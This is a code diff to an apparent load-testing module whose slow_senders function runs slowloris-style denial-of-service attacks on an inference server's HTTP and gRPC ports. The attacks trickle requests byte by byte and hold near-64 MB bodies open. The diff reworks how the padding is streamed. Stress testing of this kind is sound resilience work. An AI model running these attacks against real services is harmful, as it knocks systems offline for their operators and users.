@@ -17,6 +17,7 @@ from hhdeploy.loadtest.abuse.wire import (
 
 # A body just below what a server takes: many of them are beyond what it takes together.
 _HELD_BYTES = (64 << 20) - 4096
+_PIECE_BYTES = 1 << 20
 _STEP_SECONDS = 0.5
 # Requests on one connection, before any answer is read.
 _AHEAD = 200
@@ -28,22 +29,26 @@ _INITIAL_WINDOW_SIZE = b"\0\4"
 def slow_senders(victim: Victim) -> Attack:
     """Heads, bodies and gRPC's greeting byte by byte; vast bodies up to their last bytes."""
     whole = victim.infer(10_000_000)
-    held = victim.infer(_HELD_BYTES) + b" " * (_HELD_BYTES - 1000)
+    held = victim.infer(_HELD_BYTES, {"Inference-Header-Content-Length": "1000"})
+    spaces = b" " * _PIECE_BYTES
+    # What is said at once, first and then so many spaces, and what is said byte by byte.
     ways = itertools.cycle(
         [
-            (victim.http_port, b"", whole),
-            (victim.http_port, whole, b'{"inputs": '),
-            (victim.http_port, victim.infer(None), b"1\r\n[\r\n"),
-            (victim.http_port, held, b" "),
-            (victim.grpc_port, b"", PREFACE),
+            (victim.http_port, b"", 0, whole),
+            (victim.http_port, whole, 0, b'{"inputs": '),
+            (victim.http_port, victim.infer(None), 0, b"1\r\n[\r\n"),
+            (victim.http_port, held, _HELD_BYTES // _PIECE_BYTES - 1, b" "),
+            (victim.grpc_port, b"", 0, PREFACE),
         ]
     )
 
     async def attack() -> str:
-        port, at_once, slowly = next(ways)
+        port, at_once, pieces, slowly = next(ways)
         async with connection(victim.host, port) as (reader, writer):
             writer.write(at_once)
-            await writer.drain()
+            for _ in range(pieces):
+                writer.write(spaces)
+                await writer.drain()
             ended = asyncio.ensure_future(reader.read(1))
             try:
                 for byte in itertools.cycle(slowly):
